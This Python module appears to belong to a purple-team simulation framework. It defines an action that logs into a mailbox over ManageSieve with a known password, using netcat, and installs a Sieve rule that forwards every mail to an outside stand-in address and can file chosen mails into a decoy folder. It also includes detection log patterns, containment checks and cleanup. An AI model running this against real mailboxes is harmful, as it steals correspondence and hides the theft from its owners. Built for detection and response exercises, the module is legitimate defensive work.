"""Somebody who knows a member of staff's password puts a rule into that mailbox which sends everything on, outside."""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Annotated, ClassVar

from pydantic import Field

from cyder.contracts.acting import both, entity, first, traced, typed
from cyder.contracts.action import Action, Caps, Cleanup, Expected, Scene, Sighting, Trial
from cyder.contracts.node import Node
from cyder.contracts.probe import Check, Containment
from cyder.contracts.probing import Connects
from cyder.contracts.session import Session
from cyder.model.base import LocalText, Slug
from cyder.model.evidence import Receipt, Remedy, Trace, Truth
from cyder.roles.mail.accounts import acting_user, address, attacked, correspondents, owner, who_asked
from cyder.roles.mail.mail_probes import Forwards, Hides
from cyder.roles.mail.mailing import hand_in
from cyder.roles.mail.outgoing import MailAddress, OutgoingMail, mark_of, message_ids
from cyder.roles.mail.outside import cleaned_outside, sink
from cyder.roles.mail.passwords import another_password
from cyder.roles.mail.probes import DeliversMail, LogsIn
from cyder.roles.mail.sieve import MANAGESIEVE, active_rule, forwarding, log_in, put_rule

_LOG = "/var/log/mail.log"


class MailForward(Action):
    """A Sieve rule, put in with the account's own password, which sends a copy of every mail to an address outside.

    One mail from the account to itself tries it. An account that has a rule of its own in force is left alone. With
    `hide` the rule also files mails with that word in the subject where their owner does not look.
    """

    id: ClassVar[str] = "persist.mail-forward"
    title: ClassVar[LocalText] = LocalText(en="Forwarding rule in a mailbox", ja="メール自動転送ルールの設置")
    techniques: ClassVar[tuple[str, ...]] = ("T1114.003",)
    sources: ClassVar[frozenset[str]] = frozenset({"attacker", "client"})
    targets: ClassVar[frozenset[str]] = frozenset({"mail"})
    caps: ClassVar[Caps] = Caps(commands=30)
    touches: ClassVar[str] = "the account's Sieve rules: one more; copies of mails outside; with `hide` a folder"
    ways: ClassVar[tuple[str, ...]] = ("remove-rule",)
    trials: ClassVar[tuple[Trial, ...]] = (
        Trial("pc1", "mail", {"account": "$victim", "to": "archive@cdn-stat.example"}),
        Trial("pc1", "mail", {"account": "$clerk", "to": "archive@cdn-stat.example", "hide": "請求"}),
    )

    account: str
    to: MailAddress
    rule: Slug = "mailbox"
    hide: Annotated[
        str | None,
        Field(
            pattern=r'^[^"\\\s][^"\\\r\n]{0,11}$',
            description="mails with this word in the subject lie in `folder` alone",
        ),
    ] = None
    folder: Annotated[
        str, Field(pattern=r"^[A-Za-z][A-Za-z0-9 ]{0,30}$", description="made for them, where nobody looks")
    ] = "RSS Feeds"

    def run(self, scene: Scene) -> Trace:
        """Put the rule in by ManageSieve, and send one mail that it forwards."""
        started = scene.clock.now()
        sink(scene, self.to)
        port = Connects(target=scene.target, port=MANAGESIEVE).check(scene.lan, scene.vantage)
        if not port.passed:
            return traced(scene, started, reached=False, said=port.said)
        said = self._put(scene)
        if said:
            return traced(scene, started, reached=False, said=f"{self.account}: {said}")
        return hand_in(scene, self._mail(scene), (address(scene, self.account),), owner(scene, self.account))

    def emits(self, scene: Scene) -> tuple[Expected, ...]:
        """Expect the log-in to ManageSieve, the rule at work, and the mail taken outside."""
        hidden = (self._filed(scene),) if self.hide else ()
        patterns = (self._logged_in(scene), self._forwarded(scene), *hidden, self._sent())
        return tuple(Expected(node=scene.target, log="mail", pattern=pattern) for pattern in patterns)

    def sightings(self, scene: Scene) -> tuple[Sighting, ...]:
        """Look who changed rules, which rules forward, whose mail is sorted by rules, and what the rule says.

        With `hide` also which rules file mails, and how many lie in each folder.
        """
        own = address(scene, self.account)
        counted = ("doveadm", "mailbox", "status", "-u", own, "messages", "*")
        hidden = (
            Sighting(scene.target, ("grep", "fileinto action", _LOG), self._filed(scene)),
            Sighting(scene.target, counted, rf"^{self.folder} messages=[1-9]"),
        )
        fetched = ("doveadm", "sieve", "get", "-u", own, self.rule)
        return (
            Sighting(scene.target, ("grep", "managesieve-login: Logged in", _LOG), self._logged_in(scene)),
            Sighting(scene.target, ("grep", "redirect action", _LOG), self._forwarded(scene)),
            Sighting(scene.target, ("doveadm", "sieve", "list", "-A"), rf"{re.escape(own)}.*{self.rule}"),
            Sighting(scene.target, fetched, f'redirect .*"{re.escape(self.to)}"'),
            *(hidden if self.hide else ()),
        )

    def truth(self, scene: Scene, receipts: Sequence[Receipt]) -> Truth:
        """Name receiver and account, when the rule was put in, and when the first mail went outside."""
        domain, place = self.to.partition("@")[2], sink(scene, self.to)
        every = tuple(address for card in place.interfaces for address in card.addresses)
        moments = first("persistence", scene.target, self._logged_in(scene), receipts)
        return Truth(
            indicators=(entity("receiver", email=self.to, domain=domain, ip=every),),
            accounts=attacked(scene, (self.account,)),
            timeline=(*moments, *first("exfil", scene.target, self._forwarded(scene), receipts)),
            remedies=(
                Remedy(kind="remove-persistence", target=self.account),
                Remedy(kind="reset-password", target=self.account),
                Remedy(kind="block-network", target=domain),
            ),
            techniques=("T1564.008",) if self.hide else (),
        )

    def control(self, scene: Scene) -> Check:
        """Ask whether somebody else in the source's network reaches ManageSieve."""
        return Check(by="neighbour", probe=Connects(target=scene.target, port=MANAGESIEVE))

    def containment(self, scene: Scene) -> tuple[Containment, ...]:
        """Return: a mail to the account reaches nobody outside, and the known password no longer puts in another rule.

        With `hide`, a mail with that word must not be filed away either. The mail must still come into the mailbox of
        whoever else is written to.
        """
        account, canary = owner(scene, self.account), scene.canary
        own = address(scene, self.account)
        goes = Forwards(target=scene.target, address=own, sink=sink(scene, self.to).name, mark=mark_of(scene))
        rule = (Check(by="colleague", probe=goes), *self._hides(scene))
        known = LogsIn(target=scene.target, account=account.account, password=account.password)
        staff = address(scene, canary.account)
        still = DeliversMail(target=scene.target, account=staff, password=canary.password, address=staff)
        off = (
            typed(scene.target, "doveadm", "sieve", "deactivate", "-u", own),
            typed(scene.target, "doveadm", "sieve", "activate", "-u", own, self.rule),
        )
        way = both(off, another_password(scene.target, self.account))
        return (
            Containment(
                id="remove-rule",
                deny=(*rule, Check(by="neighbour", probe=known)),
                allow=(Check(by="colleague", probe=still),),
                typed=way[0],
                undone=way[1],
            ),
        )

    def cleanup(self, scene: Scene) -> Cleanup:
        """Remove the rule and every copy of what it was tried with, here and outside; look whether they are gone.

        What the rule has filed away is moved to the inbox, and the folder goes.
        """
        self._session(scene).close()
        server, own = scene.lan.node(scene.target), address(scene, self.account)
        if self._is_there(server, own):
            server.run(("doveadm", "sieve", "deactivate", "-u", own), timeout=20)
            server.run(("doveadm", "sieve", "delete", "-u", own, self.rule), timeout=20)
        mails = cleaned_outside(scene, self.to)
        there, filed = self._is_there(server, own), self._is_filed(server, own)
        rule = "the rule is left" if there else f"the folder {self.folder} is left" if filed else "the rule is gone"
        return Cleanup(verified=mails.verified and not there and not filed, said=f"{rule}; {mails.said}")

    def _put(self, scene: Scene) -> str:
        """Put the rule in; return what went wrong, or nothing."""
        session, there = self._session(scene), ("-n", "-s", scene.vantage.address, scene.reach(MANAGESIEVE))
        session.close()
        try:
            if not session.open(("nc", *there, str(MANAGESIEVE))).ok:
                return "no connection"
            if not log_in(session, self.account, owner(scene, self.account).password):
                return "log-in refused"
            if active_rule(session) not in ("", self.rule):
                return "there is a rule of the account's own"
            put = put_rule(session, self.rule, forwarding(self.to, scene.marker, self.hide, self.folder))
            session.say("LOGOUT", until="^OK")
            return "" if put else "the rule was not taken"
        finally:
            session.close()

    def _session(self, scene: Scene) -> Session:
        return Session(scene.actor, f"/var/tmp/.{mark_of(scene)}", acting_user(scene))  # noqa: S108  on a node

    def _is_there(self, server: Node, own: str) -> bool:
        listed = server.run(("doveadm", "sieve", "list", "-u", own), timeout=20)
        return not listed.ok or self.rule in listed.out.split()

    def _is_filed(self, server: Node, own: str) -> bool:
        """Empty the folder into the inbox and remove it; return whether it is still there."""
        if self.hide is None:
            return False
        server.run(("doveadm", "move", "-u", own, "INBOX", "mailbox", self.folder, "all"), timeout=20)
        server.run(("doveadm", "mailbox", "delete", "-u", own, self.folder), timeout=20)
        listed = server.run(("doveadm", "mailbox", "list", "-u", own), timeout=20)
        return not listed.ok or self.folder in listed.out.splitlines()

    def _hides(self, scene: Scene) -> tuple[Check, ...]:
        if self.hide is None:
            return ()
        own, mark = address(scene, self.account), mark_of(scene)
        probe = Hides(target=scene.target, address=own, word=self.hide, folder=self.folder, mark=mark)
        return (Check(by="colleague", probe=probe),)

    def _mail(self, scene: Scene) -> OutgoingMail:
        own = correspondents(scene, (self.account,))
        subject = f"{self.hide}の確認" if self.hide else "確認"
        return OutgoingMail(sender=own[0], to=own, subject=subject, body="送受信の確認です。\n")

    def _logged_in(self, scene: Scene) -> str:
        return rf"managesieve-login: Logged in: {who_asked(scene, self.account)}"

    def _forwarded(self, scene: Scene) -> str:
        own, to = re.escape(address(scene, self.account)), re.escape(self.to)
        return rf"lmtp\({own}\).*: sieve: msgid={message_ids(scene)}.*: redirect action: forwarded to <{to}>"

    def _filed(self, scene: Scene) -> str:
        own = re.escape(address(scene, self.account))
        stored = f"fileinto action: stored mail into mailbox '{self.folder}'"
        return rf"lmtp\({own}\).*: sieve: msgid={message_ids(scene)}.*: {stored}"

    def _sent(self) -> str:
        return rf"postfix/smtp\[\d+\]: \w+: to=<{re.escape(self.to)}>, relay=\S+, .*status=sent"
